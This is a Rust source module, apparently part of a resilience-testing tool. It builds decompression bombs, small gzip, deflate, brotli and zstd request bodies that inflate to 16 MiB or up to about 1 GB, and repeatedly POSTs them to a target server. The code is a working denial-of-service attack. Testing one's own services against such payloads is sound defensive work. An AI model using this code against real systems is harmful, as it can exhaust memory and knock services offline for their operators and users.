//! Small bodies that inflate to as much as their encoding can hold: each at the maximum of its ratio, as large as is taken.

use anyhow::Result;

use super::{Answers, Attack, Target, paced, post};

/// Below the collector's default bound on bodies as sent.
const BODY: usize = 1_000_000;
/// What one member, block or stream of a bomb inflates to at least.
const ZEROS: usize = 16 << 20;

pub(super) async fn run(target: &Target, attack: Attack) -> Result<Answers> {
    let encoding = attack.name.trim_start_matches("bombs-");
    let bomb = make(encoding)?;
    let more = format!("content-encoding: {encoding}\r\n");
    paced(target, attack, &|target, _| post(target, &more, &bomb)).await
}

fn make(encoding: &str) -> Result<Vec<u8>> {
    let zeros = vec![0; 1 << 20];
    let repeat =
        |out: &mut dyn std::io::Write| (0..ZEROS >> 20).try_for_each(|_| out.write_all(&zeros));
    Ok(match encoding {
        // Members follow each other: 1,000,000 bytes become 1 GB.
        "gzip" => {
            let mut member = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
            repeat(&mut member)?;
            let member = member.finish()?;
            member
                .iter()
                .copied()
                .cycle()
                .take(member.len() * (BODY / member.len()).max(1))
                .collect()
        }
        "deflate" => {
            let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
            repeat(&mut out)?;
            out.finish()?
        }
        // The largest window that brotli has: the decoder holds 16 MiB for it.
        "br" => {
            let mut out = Vec::new();
            let mut packer = brotli::CompressorWriter::new(&mut out, 4096, 5, 24);
            repeat(&mut packer)?;
            drop(packer);
            out
        }
        // The largest window that is taken, 8 MiB.
        _ => {
            let mut packer = zstd::stream::write::Encoder::new(Vec::new(), 19)?;
            packer.window_log(23)?;
            repeat(&mut packer)?;
            packer.finish()?
        }
    })
}
